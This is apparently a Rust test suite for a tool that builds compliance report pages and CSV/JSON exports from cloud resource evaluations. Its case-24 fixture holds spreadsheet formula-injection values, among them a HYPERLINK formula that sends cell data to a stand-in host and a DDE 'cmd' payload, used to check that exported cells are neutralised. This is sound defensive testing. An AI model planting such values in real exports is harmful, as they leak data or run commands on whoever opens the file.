//! The files a run leaves.

use compliance_types::resource::ResourceIdentity;
use functions_core::compliance::Compliance;
use functions_report::{
    files::{PAGE_BYTES, runs_page},
    findings::JSON_FINDINGS,
    gathered::Gathered,
    input::Context,
};

use crate::sample::{MARKUP, context, files, report, run, two_runs};

/// The bytes of one of them.
fn body<'a>(files: &'a [functions_report::files::File], name: &str) -> &'a [u8] {
    &files.iter().find(|file| file.name == name).unwrap().body
}

fn text<'a>(files: &'a [functions_report::files::File], name: &str) -> &'a str {
    std::str::from_utf8(body(files, name)).unwrap()
}

#[test]
fn the_first_screen_as_it_is() {
    let files = files(&two_runs(40));
    let page = text(&files, "index.html");
    let main = page.split_once("<main id=\"main\">").unwrap().1.split_once("<script>").unwrap().0;
    insta::assert_snapshot!("page", main);
    insta::assert_snapshot!("findings", text(&files, "findings.csv"));
    insta::assert_snapshot!("summary", text(&files, "summary.json"));
}

#[test]
fn finding_8_a_run_without_results_says_that_the_first_evaluation_is_running() {
    let files = files(&run("run-1", "2026-03-04T00:00:00Z", 0, false, &[]));
    let page = text(&files, "index.html");
    for words in [
        "Not yet evaluated",
        "The first evaluation is still running.",
        "There is no earlier report with results.",
        "has never reported",
        "<p>No rule has results yet.</p>",
    ] {
        assert!(page.contains(words), "{words}");
    }
    for words in ["/ 100", "No resource breaks a rule.", "Every evaluated resource complies."] {
        assert!(!page.contains(words), "{words}");
    }
    assert_eq!(text(&files, "findings.csv").lines().count(), 1);
}

#[test]
fn a_name_that_is_markup_stays_a_name() {
    let report = two_runs(40);
    assert!(report.findings.iter().any(|finding| finding.resource_id == MARKUP));
    for file in files(&report).iter().filter(|file| file.name.ends_with(".html")) {
        let page = std::str::from_utf8(&file.body).unwrap();
        assert_eq!(page.matches("<script").count(), 1, "{}", file.name);
        assert!(!page.contains("<lake>"));
    }
}

#[test]
fn a_hundred_thousand_resources_make_pages_within_their_bound() {
    let report = run("run-1", "2026-03-04T00:00:00Z", 100_000, false, &[]);
    let files = files(&report);
    let pages: Vec<_> = files.iter().filter(|file| file.name.ends_with(".html")).collect();
    assert!(pages.len() > 3);
    let index = text(&files, "index.html");
    for page in &pages {
        assert!(page.body.len() <= PAGE_BYTES, "{}: {}", page.name, page.body.len());
        assert!(page.name == "index.html" || index.contains(&format!("href=\"{}\"", page.name)), "{}", page.name);
    }
    // Pages of frameworks list findings once more.
    let listing = pages.iter().filter(|page| page.name == "index.html" || page.name.starts_with("resources"));
    let rows: usize = listing
        .map(|page| std::str::from_utf8(&page.body).unwrap().matches("<small>AWS::EC2::Volume</small>").count())
        .sum();
    let listed = index
        .split("the parts reach to ")
        .nth(1)
        .map_or(report.findings.len(), |rest| rest.split(',').next().unwrap().replace('\u{202f}', "").parse().unwrap());
    assert_eq!(rows, listed);
    assert_eq!(text(&files, "findings.csv").lines().count(), report.findings.len() + 1);
}

#[test]
fn nothing_in_a_page_comes_from_elsewhere() {
    for file in files(&two_runs(40)).iter().filter(|file| file.name.ends_with(".html")) {
        let page = std::str::from_utf8(&file.body).unwrap().replace("http://www.w3.org/2000/svg", "");
        // A link to the page of a rule loads nothing until somebody follows it.
        let page = page.replace("<a href=\"https://docs.aws.amazon.com/", "");
        for outside in ["http:", "https:", "src=", "@import", "url("] {
            assert!(!page.contains(outside), "{outside} in {}", file.name);
        }
    }
}

#[test]
fn equal_runs_leave_equal_bytes() {
    assert_eq!(files(&two_runs(200)), files(&two_runs(200)));
}

#[test]
fn the_page_comes_after_what_it_links_to_and_the_summary_last() {
    let names: Vec<String> = files(&two_runs(40)).into_iter().map(|file| file.name).collect();
    let expected = [
        "framework-hipaa.html",
        "framework-pci-dss.html",
        "findings.csv",
        "fixed.csv",
        "rules.csv",
        "report.json",
        "index.html",
        "manifest.json",
        "summary.json",
    ];
    assert_eq!(names, expected);
}

#[test]
fn the_index_lists_the_runs_the_newest_first() {
    let file = runs_page(&two_runs(40).trend, |run| format!("{}/index.html", run.run_id)).unwrap();
    let page = String::from_utf8(file.body).unwrap();
    assert!(page.find("run-2/index.html").unwrap() < page.find("run-1/index.html").unwrap());
}

/// So many resources that break one rule.
fn broken(count: usize) -> Gathered {
    let mut gathered = Gathered::default();
    for number in 0..count {
        let resource_id = format!("vol-{number:07}");
        let resource = ResourceIdentity {
            account: "1",
            region: "a",
            resource_type: "AWS::EC2::Volume",
            resource_id: &resource_id,
        };
        gathered.add(resource, [("r", Compliance::NonCompliant)]);
    }
    gathered
}

#[test]
fn more_findings_than_a_file_takes_are_in_several_and_the_next_run_knows_all_of_them() {
    let first = files(&report(context("1", "2026-03-04T00:00:00Z"), broken(230_000), &[]));
    let names: Vec<_> = first.iter().map(|file| &*file.name).filter(|name| name.starts_with("findings")).collect();
    assert_eq!(names, ["findings.csv", "findings-2.csv", "findings-3.csv"]);
    assert!(text(&first, "index.html").contains("findings.csv to findings-3.csv have all"));
    assert!(text(&first, "index.html").contains("JSON (with the first 50\u{202f}000 findings)"));
    let json: serde_json::Value = serde_json::from_slice(body(&first, "report.json")).unwrap();
    assert_eq!(json["findings"].as_array().unwrap().len(), JSON_FINDINGS);
    assert_eq!(json["totals"]["nonCompliant"], 230_000);
    let second = report(context("2", "2026-03-05T00:00:00Z"), broken(229_990), &first);
    let change = second.change.as_ref().unwrap();
    assert_eq!((change.new, change.fixed, change.still_open), (0, 10, 229_990));
    assert_eq!(text(&files(&second), "fixed.csv").lines().count(), 11);
}

#[test]
fn the_first_screen_names_what_is_new_and_what_is_fixed() {
    let first = files(&report(context("1", "2026-03-04T00:00:00Z"), broken(20), &[]));
    let page = files(&report(context("2", "2026-03-05T00:00:00Z"), broken(10), &first));
    let page = text(&page, "index.html");
    let moved = page.split_once("id=\"costs-h\"").unwrap().0;
    let fixed: Vec<_> = moved.split("<li>r: ").skip(1).map(|rest| rest.split(' ').next().unwrap()).collect();
    assert_eq!((fixed.len(), fixed[0], fixed[7]), (8, "vol-0000010", "vol-0000017"));
    assert!(page.contains("And 2 more: see <a href=\"fixed.csv\">"));
}

#[test]
fn what_could_not_be_read_is_on_the_first_screen() {
    for (unreadable, words) in [(0, None), (1, Some("One of 3 resources came")), (2, Some("2 of 4 resources came"))] {
        let context = Context { unreadable_resources: unreadable, ..context("1", "2026-03-04T00:00:00Z") };
        let files = files(&report(context, broken(2), &[]));
        let page = text(&files, "index.html");
        assert_eq!(page.contains("Not read"), words.is_some());
        assert!(words.is_none_or(|words| page.contains(words)), "{words:?}");
    }
}

#[test]
fn finding_8_the_first_results_are_no_change_and_a_day_later_nothing_is_running() {
    let empty = run("run-1", "2026-03-04T00:00:00Z", 0, false, &[]);
    let runs = runs_page(&empty.trend, |run| run.run_id.clone()).unwrap();
    assert!(String::from_utf8(runs.body).unwrap().contains(": not yet evaluated<"));
    let second = run("run-2", "2026-03-04T00:15:00Z", 40, false, &files(&empty));
    assert_eq!(second.change, None, "everything would be new");
    let page = files(&second);
    assert!(text(&page, "index.html").contains("The first evaluation is still running. 2 of 3 rules have results."));
    let third = run("run-3", "2026-03-04T06:15:00Z", 40, false, &page);
    let change = third.change.as_ref().unwrap();
    assert_eq!((change.new, change.fixed), (0, 0));
    let last = files(&run("run-4", "2026-03-05T06:15:00Z", 0, false, &files(&third)));
    assert!(!text(&last, "index.html").contains("first evaluation"));
}

#[test]
fn finding_6_evaluations_of_rules_that_others_deployed_are_told_and_not_counted() {
    for (count, words) in [
        (0, None),
        (1, Some("One evaluation is of a rule that this deployment does not manage")),
        (1_234, Some("1\u{202f}234 evaluations are of rules that this deployment does not manage")),
    ] {
        let context = Context { other_evaluations: count, ..context("1", "2026-03-04T00:00:00Z") };
        let report = report(context, broken(2), &[]);
        assert_eq!(report.totals.total(), 2);
        let files = files(&report);
        let page = text(&files, "index.html");
        assert_eq!(page.contains("Not counted"), words.is_some());
        assert!(words.is_none_or(|words| page.contains(words)), "{words:?}");
        let json: serde_json::Value = serde_json::from_slice(body(&files, "report.json")).unwrap();
        assert_eq!(json["otherEvaluations"], count);
    }
}

/// The findings of `shared/cases`, case 24: rule, account and resource.
const FORMULAS: [(&str, &str, &str); 5] = [
    ("=HYPERLINK(\"https://x.example/?\"&A1,\"open\")", "012345678901", "vol-1"),
    ("own-policy", "111122223333", "=1+1"),
    ("own-policy", "111122223333", "+cmd|' /C calc'!A0"),
    ("own-policy", "111122223333", "-2"),
    ("own-policy", "111122223333", "@SUM(1)"),
];

#[test]
fn case_24_formulas_in_names_do_not_run_and_the_next_run_finds_nothing_new_or_fixed() {
    let formulas = || {
        let mut gathered = Gathered::default();
        for (rule, account, resource_id) in FORMULAS {
            let resource =
                ResourceIdentity { account, region: "eu-west-1", resource_type: "AWS::SSM::Parameter", resource_id };
            gathered.add(resource, [(rule, Compliance::NonCompliant)]);
        }
        gathered
    };
    let first = files(&report(context("1", "2026-03-04T00:00:00Z"), formulas(), &[]));
    for name in ["findings.csv", "fixed.csv", "rules.csv"] {
        let mut reader = csv::Reader::from_reader(body(&first, name));
        for cell in reader.records().flat_map(|record| record.unwrap().iter().map(str::to_owned).collect::<Vec<_>>()) {
            assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "{name}: {cell}");
        }
    }
    let second = report(context("2", "2026-03-05T00:00:00Z"), formulas(), &first);
    let change = second.change.as_ref().unwrap();
    assert_eq!((change.new, change.fixed, change.still_open), (0, 0, 5));
    let third = report(context("3", "2026-03-06T00:00:00Z"), Gathered::default(), &files(&second));
    assert!(third.fixed.is_empty(), "nothing reported");
    let names: Vec<_> = third.findings.iter().map(|finding| finding.resource_id.to_owned()).collect();
    for (_, _, resource_id) in FORMULAS {
        assert!(names.iter().any(|name| name == resource_id), "{resource_id} in {names:?}");
    }
}

#[test]
fn a_framework_is_told_with_its_controls_and_what_nobody_assessed_never_passes() {
    let files = files(&two_runs(40));
    let page = text(&files, "index.html");
    let controls = page.split("id=\"controls\"").nth(1).unwrap();
    for row in [
        "<td>PCI DSS</td><td>EKS_CLUSTER_OLDEST_SUPPORTED_VERSION</td><td data-key=\"1\">not offered in this \
         region</td><td>6.3.3</td>",
        "<td>HIPAA</td><td>164.310</td><td data-key=\"3\">manual: no rule evaluates it</td>",
        "<td>PCI DSS</td><td>s3-bucket-encryption-enabled</td><td data-key=\"2\">no result</td>",
    ] {
        assert!(controls.contains(row), "{row}");
    }
    let line = text(&files, "findings.csv").lines().find(|line| line.contains("ebs-volumes-encrypted")).unwrap();
    assert!(line.contains(",HIPAA 164.312(a)(2)(iv); PCI DSS 3.5.1,"), "{line}");
}
